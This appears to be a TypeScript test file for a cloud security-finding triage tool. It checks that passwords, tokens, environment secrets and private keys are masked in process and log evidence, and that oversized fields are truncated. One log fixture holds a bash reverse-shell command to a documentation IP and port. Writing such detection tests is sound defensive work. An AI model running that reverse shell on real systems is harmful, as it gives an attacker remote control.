import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { defaultConfig } from '../../src/config';
import { triage } from '../../src/engine';
import { ExportedLogSource } from '../../src/logs/exported-logs';
import { maskMarker } from '../../src/evidence/mask';
import { processLimits, processReports } from '../../src/evidence/processes';
import type { Finding } from '../../src/notification/schema';
import { loadSample, logsDir, reverseShellPodLabels } from '../support/fixtures';

const withSecrets = () => {
  const sample = loadSample('gke-multi-process-remote-command-exec.json');
  const process = sample.finding.processes[0];
  process.args = ['curl', '-H', 'Authorization: Bearer abcdefghijklmnop', 'https://u:pw@example.invalid', '--password', 'hunter2'];
  process.envVariables = [
    { name: 'DB_PASSWORD', val: 's3cret' },
    { name: 'HOME', val: '/root' },
  ];
  process.script = { contents: 'export AWS_SECRET_ACCESS_KEY=abc123\n-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n' };
  return sample;
};

const run = (config = defaultConfig) => triage(withSecrets(), { logs: new ExportedLogSource(logsDir), now: () => new Date() }, config);

describe('secrets in processes', () => {
  it('are masked in args, env variables and script excerpts by default', async () => {
    const result = await run();
    if (result.kind === 'skipped') throw new Error('unexpected');
    const [process] = result.summary.processes;
    expect(process!.args).toEqual(['curl', '-H', `Authorization: ${maskMarker}`, `https://u:${maskMarker}@example.invalid`, '--password', maskMarker]);
    expect(process!.env).toEqual([
      { name: 'DB_PASSWORD', value: maskMarker },
      { name: 'HOME', value: '/root' },
    ]);
    expect(process!.script!.excerpt).toBe(`export AWS_SECRET_ACCESS_KEY=${maskMarker}\n-----BEGIN PRIVATE KEY-----${maskMarker}-----END PRIVATE KEY-----\n`);
    expect(JSON.stringify(result.summary)).not.toMatch(/hunter2|s3cret|abcdefghijklmnop|MIIE|:pw@/);
  });

  it('are kept when masking is turned off', async () => {
    const result = await run({ ...defaultConfig, maskSecrets: false });
    if (result.kind === 'skipped') throw new Error('unexpected');
    expect(result.summary.processes[0]!.args).toContain('hunter2');
  });
});

describe('secrets in log lines', () => {
  it('are masked in excerpts and highlight details', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'scc-triage-secrets-'));
    const labels = reverseShellPodLabels;
    const entry = {
      insertId: 'x',
      logName: 'projects/acme-payments-prod/logs/stderr',
      timestamp: '2025-03-04T14:22:30Z',
      severity: 'ERROR',
      resource: { type: 'k8s_container', labels },
      textPayload: 'bash -i >& /dev/tcp/203.0.113.45/4444 token=hunter2',
    };
    writeFileSync(join(dir, 'entries.ndjson'), `${JSON.stringify(entry)}\n`);
    const result = await triage(loadSample('gke-reverse-shell.json'), { logs: new ExportedLogSource(dir), now: () => new Date() }, defaultConfig);
    if (result.kind === 'skipped') throw new Error('unexpected');
    expect(result.summary.logs[0]!.entries[0]!.text).toBe(`bash -i >& /dev/tcp/203.0.113.45/4444 token=${maskMarker}`);
    expect(result.summary.highlights.find((h) => h.kind === 'indicator_in_logs')!.detail).toContain(`token=${maskMarker}`);
    expect(JSON.stringify(result.summary)).not.toContain('hunter2');
  });
});

describe('process reports of hostile size', () => {
  const twoMb = 2 * 1024 * 1024;
  const report = (process: Record<string, unknown>, mask = true) => processReports({ processes: [process] } as unknown as Finding, mask)[0]!;
  const within = (text: string, max: number) => text.length <= max + `…[+${twoMb * 2} chars]`.length;

  it('cut every field to its budget before masking, and mask what the cut left of a secret', () => {
    const secret = 'S3cr3t-cut-'.repeat(200);
    const args = ['mysql', 'x'.repeat(twoMb), `--password=${secret}`, `-p${secret}`, ...Array.from({ length: 100 }, () => 'a')];
    const key = `-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXk'.repeat(1000)}\n-----END OPENSSH PRIVATE KEY-----\n`;
    const env = [
      { name: 'N'.repeat(twoMb), val: 'v' },
      { name: 'NOTES', val: `${'x '.repeat(120)}ghp_${'a'.repeat(twoMb)}` },
    ];
    const result = report({ binary: { path: `/${'d/'.repeat(twoMb)}` }, args, script: { path: '/s', contents: `echo hi\n${key}` }, envVariables: env });
    expect(result.args).toHaveLength(processLimits.args);
    expect(result.argsTruncated).toBe(true);
    expect(result.args.every((arg) => within(arg, processLimits.argChars))).toBe(true);
    expect(result.args[2]).toMatch(/^--password=\[MASKED\]…\[\+\d+ chars\]$/);
    expect(result.args[3]).toMatch(/^-p\[MASKED\]…\[\+\d+ chars\]$/);
    expect(result.script!.excerpt).toMatch(/^echo hi\n-----BEGIN OPENSSH PRIVATE KEY-----\[MASKED\]…\[\+\d+ chars\]$/);
    expect(result.env![0]!.name.length).toBeLessThanOrEqual(processLimits.envChars + 32);
    expect(result.env![1]!.value).toMatch(/\[MASKED\]…\[\+\d+ chars\]$/);
    expect(within(result.binary, processLimits.pathChars)).toBe(true);
    expect(JSON.stringify(result)).not.toMatch(/S3cr3t|b3BlbnNz|ghp_a/);
  });

  it('are bounded the same with masking off', () => {
    const result = report({ args: ['sh', 'y'.repeat(twoMb)], script: { contents: 'z'.repeat(twoMb) }, envVariables: [{ name: 'A', val: 'w'.repeat(twoMb) }] }, false);
    expect(within(result.args[1]!, processLimits.argChars)).toBe(true);
    expect(within(result.script!.excerpt!, processLimits.scriptChars)).toBe(true);
    expect(within(result.env![0]!.value, processLimits.envChars)).toBe(true);
  });
});
